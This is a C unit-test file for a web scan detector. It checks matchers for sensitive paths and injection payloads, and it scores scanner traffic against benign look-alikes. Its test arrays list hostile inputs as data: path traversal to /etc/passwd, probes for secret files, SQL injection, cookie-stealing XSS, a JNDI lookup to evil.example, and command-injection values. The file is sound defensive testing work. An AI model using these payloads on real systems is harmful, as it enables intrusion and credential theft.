/*
 * test_scan.c -- the scan detector: the sensitive-path and injection
 * matchers on real tool payloads and real legitimate paths, and the
 * detector on scanner and look-alike traffic.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detector_fixture.h"

extern const rp_detector rp_detector_scan;

/* Exported by scan.c for these tests. */
unsigned rp_scan_sensitive_path(const char *path, size_t len);
bool rp_scan_injection(const char *text, size_t len);
#define PROBE 1u
#define ALWAYS 2u

#define SEC 1000000LL
#define T0 (1700000400LL * SEC) /* the start of a 10-minute period */

static int setup(void **s) {
    fixture *f = fixture_new(&rp_detector_scan);
    f->route->hash = 42;
    *s = f;
    return 0;
}

/* One request; path may carry "?query". Returns the score. */
static double req(fixture *f, int64_t ts, rp_method method, const char *target, uint16_t status) {
    const char *q = strchr(target, '?');
    size_t plen = q ? (size_t)(q - target) : strlen(target);
    f->ev.method = (uint8_t)method;
    f->ev.status = status;
    f->ev.path.ptr = target;
    f->ev.path.len = (uint32_t)plen;
    f->ev.query.ptr = q ? q + 1 : NULL;
    f->ev.query.len = q ? (uint32_t)strlen(q + 1) : 0;
    f->obs.path_hash = rp_hash64(target, plen, 1);
    f->obs.query_hash = q ? rp_hash64(q + 1, strlen(q + 1), 2) : 0;
    return fixture_feed(f, ts);
}

static double get(fixture *f, int64_t ts, const char *target, uint16_t status) {
    return req(f, ts, RP_METHOD_GET, target, status);
}

static unsigned sens(const char *p) { return rp_scan_sensitive_path(p, strlen(p)); }
static bool inj(const char *q) { return rp_scan_injection(q, strlen(q)); }

/* ------------------------------------------------------------- matchers */

static void test_scan_sensitive_matches_secret_files_and_traversal_always(void **s) {
    (void)s;
    static const char *const always[] = {
        "/.env", "/.env.production", "/api/.env", "/.git/config", "/.git/HEAD",
        "/.aws/credentials", "/.DS_Store", "/.htaccess", "/.htpasswd", "/.ssh/id_rsa",
        "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd",
        "/%252e%252e/%252e%252e/etc/passwd", "/..%5c..%5cwindows/win.ini",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/wp-config.php.bak",
        "/config.php~", "/.svn/entries", "/docker-compose.yml", "/id_rsa",
    };
    for (unsigned i = 0; i < sizeof always / sizeof always[0]; i++)
        if (sens(always[i]) != ALWAYS) fail_msg("expected ALWAYS: %s", always[i]);
}

static void test_scan_sensitive_matches_probe_targets(void **s) {
    (void)s;
    static const char *const probes[] = {
        "/wp-login.php", "/wp-admin/", "/wordpress/wp-admin/", "/xmlrpc.php",
        "/phpmyadmin/index.php", "/phpMyAdmin-4.9.0/", "/actuator/env", "/actuator",
        "/server-status", "/cgi-bin/test.cgi", "/admin", "/Admin/", "/administrator/index.php",
        "/console", "/manager/html", "/solr/admin/cores", "/jenkins/script", "/backup.sql",
        "/db.sql", "/index.php.bak", "/site.old", "/index.php", "/default.aspx", "/login.jsp",
        "/backup.tar.gz", "/.auth/me", "/_ignition/execute-solution",
    };
    for (unsigned i = 0; i < sizeof probes / sizeof probes[0]; i++)
        if (sens(probes[i]) != PROBE) fail_msg("expected PROBE: %s (%u)", probes[i],
                                               sens(probes[i]));
}

static void test_scan_sensitive_ignores_legitimate_paths(void **s) {
    (void)s;
    static const char *const legit[] = {
        "/.well-known/security.txt", "/.well-known/acme-challenge/x1y2", "/static/admin-theme.css",
        "/api/products", "/api/users/123/orders", "/blog/geekery/ssl-latency.html",
        "/presentations/logstash-monitorama-2013/images/kibana-search.png", "/favicon.ico",
        "/robots.txt", "/api/admin-settings", "/api/v1/debugger", "/", "", "/etc/config",
        "/api/passwd", "/docs/backing-up", "/reset-password", "/static/app.min.js",
        "/files/report.pdf", "/api/v2/consoles", "/images/shell-logo.png",
    };
    for (unsigned i = 0; i < sizeof legit / sizeof legit[0]; i++)
        if (sens(legit[i]) != 0) fail_msg("expected no match: %s (%u)", legit[i], sens(legit[i]));
}

static void test_scan_injection_matches_real_payloads(void **s) {
    (void)s;
    static const char *const payloads[] = {
        "id=1' OR '1'='1", "id=1%27%20OR%201=1--", "id=1%27)%20AND%20(%27a%27=%27a",
        "q=1 UNION ALL SELECT NULL,NULL--", "q=1+union+select+1,2", "q=1/**/UNION/**/SELECT/**/1",
        "id=1%29%20AND%201234%3D1234%20AND%20%281234%3D1234", "id=1 AND SLEEP(5)",
        "id=1;WAITFOR DELAY '0:0:5'--", "id=1 ORDER BY 1-- -",
        "q=<script>alert(1)</script>", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "q=%3Csvg/onload=alert(1)%3E", "x=${jndi:ldap://evil.example/a}",
        "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "x=${${lower:j}ndi:ldap://e/a}",
        "file=../../../../etc/passwd", "file=..%2f..%2f..%2fetc%2fpasswd",
        "page=php://filter/convert.base64-encode/resource=index", "cmd=;cat /etc/passwd",
        "ip=127.0.0.1|id", "ip=127.0.0.1;id", "ip=127.0.0.1%26%26whoami", "q=%00", "q=`id`",
        "name={{7*7}}", "q=javascript:alert(1)", "id=(SELECT(SLEEP(5)))",
    };
    for (unsigned i = 0; i < sizeof payloads / sizeof payloads[0]; i++)
        if (!inj(payloads[i])) fail_msg("expected injection: %s", payloads[i]);
}

static void test_scan_injection_ignores_legitimate_queries(void **s) {
    (void)s;
    static const char *const legit[] = {
        "q=o'neil", "q=O%27Neil", "q=rock 'n' roll", "name=Joe's Diner",
        "sort=price&order=asc&id=5", "a=1;id=2", "next=../dashboard", "q=union station",
        "q=select a plan", "redirect=https://example.com/a?b=c",
        "filter=%7B%22name%22%3A%22x%22%7D", "ts=2024-01-01T10:00:00Z", "q=C%2B%2B",
        "q=50%25 off", "q=cats and dogs", "q=this or that", "page=2&per_page=50",
        "q=sleep apnea", "email=a.b%40example.com", "q=tom & jerry", "ids=1,2,3&format=json",
        "", "C=N;O=A",
    };
    for (unsigned i = 0; i < sizeof legit / sizeof legit[0]; i++)
        if (inj(legit[i])) fail_msg("expected no injection: %s", legit[i]);
}

/* -------------------------------------------------------------- detector */

static void test_scan_blocks_gobuster_within_100_requests(void **s) {
    fixture *f = *s;
    static const char *const words[] = {"admin1", "backup2", "cache", "css", "data", "dev",
                                        "docs", "files", "images", "img", "include", "js",
                                        "lib", "login", "media", "old", "private", "src",
                                        "test", "tmp", "upload", "uploads", "user", "web"};
    char path[64];
    int blocked_at = -1;
    for (int i = 0; i < 100; i++) {
        snprintf(path, sizeof path, "/%s%d", words[i % 24], i / 24);
        uint16_t status = i % 37 == 5 ? 301 : 404; /* the odd hit */
        double sc = get(f, T0 + 123 * SEC + i * 50000LL, path, status); /* 20 req/s */
        if (sc >= 0.8 && blocked_at < 0) blocked_at = i + 1;
    }
    assert_true(blocked_at > 0 && blocked_at <= 60);
}

static void test_scan_summary_mentions_requests_errors_missing_and_sensitive(void **s) {
    fixture *f = *s;
    char path[64];
    for (int i = 0; i < 80; i++) {
        snprintf(path, sizeof path, "/probe-%d", i);
        get(f, T0 + i * SEC, path, 404);
    }
    get(f, T0 + 81 * SEC, "/.env", 404);
    get(f, T0 + 82 * SEC, "/wp-login.php", 404);
    rp_finding fin = fixture_finding(f);
    assert_non_null(strstr(fin.summary, "82 requests in 10 min"));
    assert_non_null(strstr(fin.summary, "100% errors"));
    assert_non_null(strstr(fin.summary, "distinct missing paths"));
    assert_non_null(strstr(fin.summary, "2 sensitive paths (/wp-login.php"));
    assert_true(fin.threats & RP_THREAT_SCANNER);
    assert_true(fin.features[2].value >= 70 && fin.features[2].value <= 95);
}

static void test_scan_three_sensitive_paths_block(void **s) {
    fixture *f = *s;
    get(f, T0, "/", 200);
    get(f, T0 + SEC, "/.env", 404);
    get(f, T0 + 2 * SEC, "/.git/config", 404);
    double sc = get(f, T0 + 3 * SEC, "/wp-login.php", 404);
    assert_float_equal(sc, 0.8, 1e-9);
}

static void test_scan_same_sensitive_path_repeated_counts_once(void **s) {
    fixture *f = *s;
    double sc = 0;
    for (int i = 0; i < 10; i++) sc = get(f, T0 + i * SEC, "/admin", 404);
    assert_true(sc < 0.4);
}

static void test_scan_admin_area_that_exists_is_not_a_probe(void **s) {
    fixture *f = *s;
    double sc = get(f, T0, "/admin", 200);
    sc = get(f, T0 + SEC, "/admin/users", 401);
    sc = get(f, T0 + 2 * SEC, "/administrator/settings", 302);
    sc = get(f, T0 + 3 * SEC, "/wp-login.php", 200);
    sc = get(f, T0 + 4 * SEC, "/wp-admin/", 302);
    assert_float_equal(sc, 0.0, 1e-9);
}

static void test_scan_leaked_env_file_counts_even_when_served(void **s) {
    fixture *f = *s;
    double sc = get(f, T0, "/.env", 200);
    assert_true(sc > 0.1);
}

static void test_scan_sqlmap_injections_block(void **s) {
    fixture *f = *s;
    get(f, T0, "/api/items?id=1", 200);
    get(f, T0 + SEC, "/api/items?id=1%27%20AND%20SLEEP(5)--", 500);
    get(f, T0 + 2 * SEC, "/api/items?id=1%20UNION%20ALL%20SELECT%20NULL--", 500);
    double sc = get(f, T0 + 3 * SEC, "/api/items?id=1%29%20AND%201234%3D1234", 200);
    assert_true(sc >= 0.8);
    rp_finding fin = fixture_finding(f);
    assert_non_null(strstr(fin.summary, "3 injection payloads"));
}

static void test_scan_searching_for_oneil_is_not_injection(void **s) {
    fixture *f = *s;
    double sc = 0;
    for (int i = 0; i < 50; i++) sc = get(f, T0 + i * SEC, "/api/products?q=o'neil", 200);
    assert_float_equal(sc, 0.0, 1e-9);
}

static void test_scan_googlebot_with_old_404_pages_is_not_a_scanner(void **s) {
    fixture *f = *s;
    char path[64];
    double max = 0;
    /* 200 requests in 10 min, 12 distinct old product pages gone */
    for (int i = 0; i < 200; i++) {
        snprintf(path, sizeof path, "/products/%d", 1000 + i);
        double sc = get(f, T0 + i * 3 * SEC, path, i % 16 == 0 ? 404 : 200);
        if (sc > max) max = sc;
    }
    assert_float_equal(max, 0.0, 1e-9);
}

static void test_scan_crawler_like_mj12bot_from_real_log_is_not_flagged(void **s) {
    fixture *f = *s;
    /* 144.76.95.39 in elastic-apache_logs.log: 23 requests in 10 min, 14
     * errors, 10 distinct missing paths, two of them *.php */
    char path[64];
    double max = 0;
    for (int i = 0; i < 23; i++) {
        if (i < 8) snprintf(path, sizeof path, "/blog/tags/t%d", i);
        else if (i == 8) snprintf(path, sizeof path, "/scripts/view.php");
        else if (i == 9) snprintf(path, sizeof path, "/scripts/x/view.php");
        else snprintf(path, sizeof path, "/misc/old-%d", i % 12);
        uint16_t status = i < 9 ? (i < 8 ? 200 : 404) : 404;
        if (i >= 18) status = 404; /* repeats of known misses */
        double sc = get(f, T0 + i * 25 * SEC, path, status);
        if (sc > max) max = sc;
    }
    assert_true(max < 0.4);
}

/* nmap http-enum or gobuster against a site whose upstream is down: nginx
 * answers every path 502/503/504, none of them a route that ever served a
 * success. As much a scan as the same wordlist answered 404. */
static void test_scan_blocks_a_wordlist_answered_502_by_a_dead_upstream(void **s) {
    fixture *f = *s;
    static const uint16_t gateway[3] = {502, 503, 504};
    char path[64];
    int blocked_at = -1;
    double sc = 0;
    for (int i = 0; i < 300; i++) {
        snprintf(path, sizeof path, "/enum-%d/", i);
        sc = get(f, T0 + 30 * SEC + i * 100000LL, path, gateway[i % 3]); /* 10 req/s */
        if (sc >= 0.8 && blocked_at < 0) blocked_at = i + 1;
    }
    assert_true(blocked_at > 0 && blocked_at <= 60);
    assert_float_equal(sc, 1.0, 1e-9);
    rp_finding fin = fixture_finding(f);
    assert_non_null(strstr(fin.summary, "300 requests in 10 min, 100% errors"));
    assert_non_null(strstr(fin.summary, "(300 answered 502/503/504 on never-served routes)"));
    assert_true(fin.threats & RP_THREAT_SCANNER);
    assert_true(fin.features[2].value >= 100); /* distinct missing paths, saturating */
}

/* A healthy client during a 10-minute outage of the upstream: it polls its
 * four usual routes every 2 s and gets 502 on all of them. The routes have
 * served successes before, so none of it is discovery. */
static void test_scan_healthy_client_with_502s_in_an_outage_is_not_flagged(void **s) {
    fixture *f = *s;
    static const char *const usual[4] = {"/v2/orders?page=1", "/v2/orders/42", "/v2/status",
                                         "/v2/catalog/items"};
    f->route->successes = 5000;
    double max = 0;
    for (int i = 0; i < 300; i++) {
        double sc = get(f, T0 + i * 2 * SEC, usual[i % 4], 502);
        if (sc > max) max = sc;
    }
    assert_float_equal(max, 0.0, 1e-9);
    /* ...and a partner paging through distinct ids of a known object
     * route through the same outage */
    char path[64];
    for (int i = 0; i < 300; i++) {
        snprintf(path, sizeof path, "/v2/orders/%d", 1000 + i);
        double sc = get(f, T0 + 600 * SEC + i * 2 * SEC, path, i % 2 ? 502 : 504);
        if (sc > max) max = sc;
    }
    assert_float_equal(max, 0.0, 1e-9);
}

/* Rampart started during the outage: no route has served a success yet, so
 * the few paths a client reads are all "never served" -- but they are few. */
static void test_scan_few_502_paths_before_any_success_are_not_a_scan(void **s) {
    fixture *f = *s;
    static const char *const usual[4] = {"/", "/shop/", "/feed/", "/v2/status"};
    double max = 0;
    for (int i = 0; i < 200; i++) {
        double sc = get(f, T0 + i * 3 * SEC, usual[i % 4], 502);
        if (sc > max) max = sc;
    }
    assert_float_equal(max, 0.0, 1e-9);
}

static void test_scan_human_with_stale_bookmarks_is_not_flagged(void **s) {
    fixture *f = *s;
    double sc = get(f, T0, "/old-page", 404);
    sc = get(f, T0 + 2 * SEC, "/apple-touch-icon.png", 404);
    sc = get(f, T0 + 3 * SEC, "/apple-touch-icon-precomposed.png", 404);
    sc = get(f, T0 + 4 * SEC, "/", 200);
    assert_float_equal(sc, 0.0, 1e-9);
}

static void test_scan_odd_methods_monitor_at_most(void **s) {
    fixture *f = *s;
    double sc = req(f, T0, RP_METHOD_TRACE, "/", 405);
    sc = req(f, T0 + SEC, RP_METHOD_OTHER, "/", 405); /* PROPFIND rejected */
    sc = req(f, T0 + 2 * SEC, RP_METHOD_OTHER, "/", 501); /* DEBUG rejected */
    sc = req(f, T0 + 3 * SEC, RP_METHOD_TRACE, "/", 405);
    assert_float_equal(sc, 0.45, 1e-9);
}

static void test_scan_log_without_methods_is_not_odd(void **s) {
    fixture *f = *s;
    double sc = 0;
    for (int i = 0; i < 20; i++) sc = req(f, T0 + i * SEC, RP_METHOD_OTHER, "/api/x", 200);
    assert_float_equal(sc, 0.0, 1e-9);
}

static void test_scan_flags_probes_of_undeclared_routes(void **s) {
    fixture *f = *s;
    f->obs.inventory_declared = true;
    f->obs.declared = false;
    double sc = 0;
    for (int i = 0; i < 11; i++) {
        f->route->hash = 1000 + (uint64_t)i * 0x9e3779b97f4a7c15ULL;
        sc = get(f, T0 + i * SEC, "/api/internal/x", 401);
    }
    assert_true(sc >= 0.75);
    rp_finding fin = fixture_finding(f);
    assert_true(fin.threats & RP_THREAT_UNDECLARED_PROBE);
    assert_non_null(strstr(fin.summary, "undeclared routes"));
}

static void test_scan_undeclared_static_routes_and_sites_without_inventory_are_ignored(void **s) {
    fixture *f = *s;
    double sc = 0;
    f->obs.inventory_declared = false;
    for (int i = 0; i < 20; i++) {
        f->route->hash = 1000 + (uint64_t)i * 0x9e3779b97f4a7c15ULL;
        sc = get(f, T0 + i * SEC, "/x", 200);
    }
    assert_float_equal(sc, 0.0, 1e-9);
    f->obs.inventory_declared = true;
    f->obs.route_class = RP_ROUTE_STATIC;
    for (int i = 0; i < 20; i++) {
        f->route->hash = 5000 + (uint64_t)i * 0x9e3779b97f4a7c15ULL;
        sc = get(f, T0 + 30 * SEC + i * SEC, "/static/a.js", 200);
    }
    assert_float_equal(sc, 0.0, 1e-9);
}

static void test_scan_scanner_with_out_of_order_timestamps_is_still_caught(void **s) {
    fixture *f = *s;
    char path[64];
    double sc = 0;
    for (int i = 0; i < 100; i++) {
        snprintf(path, sizeof path, "/w%d", i);
        int64_t jitter = ((i * 7) % 11 - 5) * SEC; /* +-5 s */
        sc = get(f, T0 + 590 * SEC + i * 100000LL + jitter, path, 404); /* spans the period edge */
    }
    assert_true(sc >= 0.8);
    /* an event from long ago is ignored and breaks nothing */
    sc = get(f, 5 * SEC, "/old", 404);
    assert_true(sc >= 0.8);
}

static void test_scan_window_forgets_after_20_minutes(void **s) {
    fixture *f = *s;
    char path[64];
    for (int i = 0; i < 60; i++) {
        snprintf(path, sizeof path, "/w%d", i);
        get(f, T0 + i * SEC, path, 404);
    }
    f->ctx.now_us = T0 + 1200 * SEC;
    assert_float_equal(f->d->score(f->state, &f->obs, &f->ctx, NULL), 0.0, 1e-9);
}

static void test_scan_missing_fields_do_not_crash(void **s) {
    fixture *f = *s;
    memset(&f->ev, 0, sizeof f->ev);
    f->ev.ts_us = T0;
    f->ctx.now_us = T0;
    f->obs.path_hash = 0;
    f->d->observe(f->state, &f->ev, &f->obs, &f->ctx);
    assert_float_equal(f->d->score(f->state, &f->obs, &f->ctx, NULL), 0.0, 1e-9);
    f->ev.ts_us = -5;
    f->d->observe(f->state, &f->ev, &f->obs, &f->ctx);
    rp_finding fin = fixture_finding(f);
    assert_true(strlen(fin.summary) > 0);
}

static void test_scan_state_fits_budget(void **s) {
    (void)s;
    assert_true(rp_detector_scan.state_size <= 80);
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, fixture_teardown)

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_scan_sensitive_matches_secret_files_and_traversal_always),
        cmocka_unit_test(test_scan_sensitive_matches_probe_targets),
        cmocka_unit_test(test_scan_sensitive_ignores_legitimate_paths),
        cmocka_unit_test(test_scan_injection_matches_real_payloads),
        cmocka_unit_test(test_scan_injection_ignores_legitimate_queries),
        T(test_scan_blocks_gobuster_within_100_requests),
        T(test_scan_summary_mentions_requests_errors_missing_and_sensitive),
        T(test_scan_three_sensitive_paths_block),
        T(test_scan_same_sensitive_path_repeated_counts_once),
        T(test_scan_admin_area_that_exists_is_not_a_probe),
        T(test_scan_leaked_env_file_counts_even_when_served),
        T(test_scan_sqlmap_injections_block),
        T(test_scan_searching_for_oneil_is_not_injection),
        T(test_scan_googlebot_with_old_404_pages_is_not_a_scanner),
        T(test_scan_crawler_like_mj12bot_from_real_log_is_not_flagged),
        T(test_scan_human_with_stale_bookmarks_is_not_flagged),
        T(test_scan_blocks_a_wordlist_answered_502_by_a_dead_upstream),
        T(test_scan_healthy_client_with_502s_in_an_outage_is_not_flagged),
        T(test_scan_few_502_paths_before_any_success_are_not_a_scan),
        T(test_scan_odd_methods_monitor_at_most),
        T(test_scan_log_without_methods_is_not_odd),
        T(test_scan_flags_probes_of_undeclared_routes),
        T(test_scan_undeclared_static_routes_and_sites_without_inventory_are_ignored),
        T(test_scan_scanner_with_out_of_order_timestamps_is_still_caught),
        T(test_scan_window_forgets_after_20_minutes),
        T(test_scan_missing_fields_do_not_crash),
        cmocka_unit_test(test_scan_state_fits_budget),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
